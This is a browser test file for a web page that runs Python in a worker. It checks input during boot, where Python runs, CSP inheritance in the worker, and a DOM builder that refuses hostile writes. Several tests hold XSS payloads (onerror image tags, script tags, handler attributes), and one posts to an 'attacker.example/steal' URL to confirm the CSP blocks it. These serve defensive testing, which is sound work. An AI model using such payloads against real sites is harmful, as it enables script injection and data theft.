"""The page answers while its Python works: Python runs in a worker, the main thread takes input
during boot, and the Long Tasks observer the benchmark relies on sees the main thread's tasks.

No test here times anything (the shared machine makes times noise): they check where the work
runs and that input is taken while the page is still booting. The figures are printed by
benchmarks/page_responsiveness.py.
"""
from __future__ import annotations

import pytest

from browser import PAGE_FILES, READY_TIMEOUT_MS, booted
from routed import wait_until

pytestmark = pytest.mark.browser
pytest.importorskip("playwright.sync_api")

PROBE = """
window.__long = [];
new PerformanceObserver(list => { for (const e of list.getEntries()) window.__long.push(e.duration); })
  .observe({type: 'longtask', buffered: true});
"""


def held_page(browser, server):
    """A page whose files request (the archive) is held: it stays booting (data-ready "false")
    until released."""
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script(PROBE)
    held = []
    page.route(PAGE_FILES, lambda route: held.append(route))
    page.goto(server, wait_until="commit")
    return page, held


def test_typing_echoes_while_the_page_boots(browser, server):
    page, held = held_page(browser, server)
    try:
        page.wait_for_selector("#model", state="visible", timeout=READY_TIMEOUT_MS)
        page.locator("#model").type('gpt-<b>4</b>"\u00e9')
        value, ready, stage = page.evaluate(
            "[document.getElementById('model').value, document.body.dataset.ready, document.body.dataset.stage]")
        assert value == 'gpt-<b>4</b>"\u00e9' and ready == "false" and stage != ""
    finally:
        wait_until(page, lambda: held, "the worker asking for the page's files")
        for route in held:
            route.continue_()
    booted(page)
    assert page.input_value("#model") == 'gpt-<b>4</b>"\u00e9'       # the page kept what was typed
    page.context.close()


def test_python_runs_in_a_worker_not_on_the_main_thread(browser, server):
    context = browser.new_context()
    page = context.new_page()
    page.goto(server)
    page.wait_for_function("(document.body?.dataset.ready ?? 'false') !== 'false'", timeout=READY_TIMEOUT_MS)
    assert page.evaluate("document.body.dataset.ready") == "true"
    assert page.evaluate("crossOriginIsolated")                        # what the worker's DOM access needs
    main_loaded = page.evaluate("performance.getEntriesByType('resource').map(e => e.name)")
    assert not [u for u in main_loaded if "pyodide.asm.wasm" in u or "python_stdlib" in u]
    assert page.workers, "no worker runs the page's Python"
    context.close()


def test_the_long_task_observer_sees_main_thread_tasks(browser, server):
    """The benchmark's probe is live: a task the test itself makes on the main thread is reported
    (so a page-side figure of 0 long tasks means none happened, not a deaf observer)."""
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script(PROBE)
    page.goto(server)
    page.wait_for_function("(document.body?.dataset.ready ?? 'false') !== 'false'", timeout=READY_TIMEOUT_MS)
    before = page.evaluate("window.__long.length")
    page.evaluate("() => setTimeout(() => { const end = performance.now() + 150; while (performance.now() < end) {} })")
    page.wait_for_function(f"window.__long.length > {before}", timeout=READY_TIMEOUT_MS)
    context.close()


def test_an_event_answered_by_the_worker_settles(browser, server):
    """body[data-pending] counts Python handlers still running: it rises with an event and comes
    back to "0" once the worker has answered (what tests wait on after an action)."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(server)
    page.wait_for_function("document.body?.dataset.ready === 'true'", timeout=READY_TIMEOUT_MS)
    page.evaluate("""() => { window.__pendingSeen = [];
        new MutationObserver(() => window.__pendingSeen.push(document.body.dataset.pending))
          .observe(document.body, {attributes: true, attributeFilter: ['data-pending']}); }""")
    page.select_option("#provider", "openai-compatible")
    page.wait_for_function("document.body?.dataset.pending === '0'", timeout=READY_TIMEOUT_MS)
    seen = [int(n) for n in page.evaluate("window.__pendingSeen")]
    assert max(seen) >= 1 and seen[-1] == 0        # it rose with the event(s), then came back
    assert not page.is_hidden("#base-url-field")          # the worker's handler ran: the field shows
    context.close()


VIOLATION = """url => new Promise(done => {
    self.addEventListener('securitypolicyviolation', e => done(e.violatedDirective + ' ' + e.blockedURI));
    fetch(url, {method: 'POST'}).then(() => done('sent'), () => setTimeout(() => done('failed without a violation'), 200));
})"""


def test_the_worker_is_held_to_the_pages_security_policy(browser, server):
    """The worker that sends provider requests starts from a blob: URL, so it inherits the page's
    CSP: a connection the page's connect-src does not allow is refused in the worker too."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(server)
    page.wait_for_function("document.body?.dataset.ready === 'true'", timeout=READY_TIMEOUT_MS)
    worker = page.workers[0]
    assert worker.url.startswith("blob:")
    assert worker.evaluate(VIOLATION, "https://attacker.example/steal") == "connect-src https://attacker.example/steal"
    page.route("https://api.openai.com/**", lambda route: route.fulfill(
        status=200, headers={"access-control-allow-origin": "*"}, body="{}"))
    assert worker.evaluate(VIOLATION, "https://api.openai.com/v1/chat/completions") == "sent"
    context.close()


HOSTILE_OPS = """() => {
    const tries = {
        property: ["set", {id: "model"}, "innerHTML", "<img src=x onerror=window.__pwned=1>"],
        outer: ["set", {id: "model"}, "outerHTML", "<script>window.__pwned=1</script>"],
        handler: ["attr", {id: "model"}, "onfocus", "window.__pwned=1"],
        handlerCase: ["attr", {id: "model"}, "ONclick", "window.__pwned=1"],
        method: ["call", {id: "run-message"}, "insertAdjacentHTML", ["beforeend", "<img src=x onerror=window.__pwned=1>"]],
        built: ["append", {id: "run-message"}, [[900001, "img", "", {}, {src: "x", onerror: "window.__pwned=1"}, [], []]]],
        builtProp: ["append", {id: "run-message"}, [[900002, "div", "", {innerHTML: "<img src=x onerror=window.__pwned=1>"}, {}, [], []]]],
        unknown: ["eval", {id: "model"}, "window.__pwned=1"],
    };
    const said = {};
    for (const [name, op] of Object.entries(tries)) {
        try { window.toolproofOps(JSON.stringify([op])); said[name] = "applied"; }
        catch (error) { said[name] = error.message; }
    }
    // a refused write does not stop the others in its message, and the failure is still raised
    let mixed;
    try {
        window.toolproofOps(JSON.stringify([["attr", {id: "model"}, "onblur", "x"],
                                            ["attr", {id: "model"}, "data-after", "<b>kept as text</b>"],
                                            ["set", {id: "run-message"}, "textContent", "<script>window.__pwned=1</script>"]]));
        mixed = "applied";
    } catch (error) { mixed = error.message; }
    return {said, mixed, pwned: window.__pwned || 0, after: document.getElementById("model").dataset.after,
            message: document.getElementById("run-message").textContent,
            scripts: document.querySelectorAll("#run-message script, #run-message img").length};
}"""


def test_the_pages_builder_refuses_html_and_handlers(browser, server):
    """web/boot.mjs applies the worker's messages with createElement, setAttribute and textContent
    only: a hostile message (an innerHTML or outerHTML write, an on* attribute in any case, a
    method outside its short list, an unknown operation) is refused by name, the rest of its
    message still applies, and a string written as text stays text."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(server)
    page.wait_for_function("document.body?.dataset.ready === 'true'", timeout=READY_TIMEOUT_MS)
    out = page.evaluate(HOSTILE_OPS)
    said = out["said"]
    assert said["property"] == 'refused property "innerHTML"' and said["outer"] == 'refused property "outerHTML"'
    assert said["handler"] == 'refused attribute "onfocus"' and said["handlerCase"] == 'refused attribute "ONclick"'
    assert said["method"] == 'refused method "insertAdjacentHTML"'
    assert said["built"] == 'refused attribute "onerror"' and said["builtProp"] == 'refused property "innerHTML"'
    assert said["unknown"] == 'unknown page operation "eval"'
    assert out["mixed"] == 'refused attribute "onblur"'
    assert out["after"] == "<b>kept as text</b>" and out["message"] == "<script>window.__pwned=1</script>"
    assert out["pwned"] == 0 and out["scripts"] == 0
    context.close()



POSTED = """async () => {
    const other = new BroadcastChannel(window.toolproofChannel);   // as the worker posts while the page starts
    const text = ops => JSON.stringify(ops);
    const append = text([["append", {id: "run-message"}, ["posted once"]]]);
    const marker = (n) => text([["attr", {id: "run-message"}, "data-marker", String(n)]]);
    const count = () => [...document.getElementById("run-message").childNodes]
        .filter(n => n.textContent === "posted once").length;
    // waits on the page's state, never on a delay: the channel keeps its order, so once a marker
    // posted after a message shows, that message has been dealt with
    const until = (check) => new Promise((done, fail) => {
        const end = Date.now() + 30000;
        const poll = () => check() ? done() : Date.now() > end ? fail(new Error("never settled")) : setTimeout(poll, 0);
        poll();
    });
    const marked = (n) => until(() => document.getElementById("run-message").dataset.marker === String(n));
    document.getElementById("run-message").replaceChildren();
    // 1. posted, then carried again by the next trip: applied once
    other.postMessage([1000001, append]);
    await until(() => count() === 1);
    window.toolproofOps(text([["posted", [[1000001, append]]]]));
    const afterBoth = count();
    // 2. carried by a trip first, then arriving on the channel: still once
    window.toolproofOps(text([["posted", [[1000002, append]]]]));
    other.postMessage([1000002, append]);
    other.postMessage([1000003, marker(3)]);
    await marked(3);
    const afterLate = count();
    // 3. a hostile posted message is refused by name; the refusal is raised by the next trip, once
    other.postMessage([1000004, text([["attr", {id: "model"}, "onclick", "window.__pwned=1"],
                                      ["set", {id: "model"}, "innerHTML", "<img src=x onerror=window.__pwned=1>"],
                                      ["attr", {id: "model"}, "data-after", "<b>kept</b>"]])]);
    await until(() => document.getElementById("model").dataset.after !== undefined);
    let raised = "";
    try { window.toolproofOps(text([["posted", [[1000004, "[]"]]]])); } catch (e) { raised = e.message; }
    let again = "";
    try { window.toolproofOps(text([["now"]])); } catch (e) { again = e.message; }
    // 4. an older number (a message from before) is never applied again; what is not a numbered
    // message is ignored (a string, an object, a number as text, NaN, a huge text as the number)
    for (const odd of ["x", {0: 2000000, 1: append}, ["2000001", append], [NaN, append], [null, append],
                       [2000002, 7], [append, 2000003], []]) other.postMessage(odd);
    other.postMessage([5, append]);
    other.postMessage([1000006, marker(6)]);
    await marked(6);
    other.close();
    const model = document.getElementById("model");
    return {afterBoth, afterLate, raised, again, last: count(), onclick: model.getAttribute("onclick"),
            after: model.dataset.after, pwned: window.__pwned || 0, imgs: document.querySelectorAll("#model img").length};
}"""


def test_writes_posted_while_the_page_starts_apply_once_in_order_and_refuse_markup(browser, server):
    """While the page starts, the worker posts its writes on the page's own channel and its next
    trip carries them again (toolproof/page/bridge.py, post_writes): each is applied exactly once,
    whichever way it comes first; an older one never again; a posted message goes through the same
    builder as any other (markup and handlers refused), and its refusal is raised by the next trip,
    where the worker's Python reports it."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(server)
    booted(page)
    first = page.evaluate("window.toolproofChannel")
    out = page.evaluate(POSTED)
    assert out["afterBoth"] == 1 and out["afterLate"] == 2 and out["last"] == 2
    assert out["raised"] == 'refused attribute "onclick"' and out["again"] == ""   # raised once
    assert out["onclick"] is None and out["pwned"] == 0 and out["imgs"] == 0
    assert out["after"] == "<b>kept</b>"            # the rest of the message still applied, as text
    page.reload()
    booted(page)
    second = page.evaluate("window.toolproofChannel")
    assert first.startswith("toolproof-writes-") and second != first       # a fresh, unguessable name per load
    context.close()
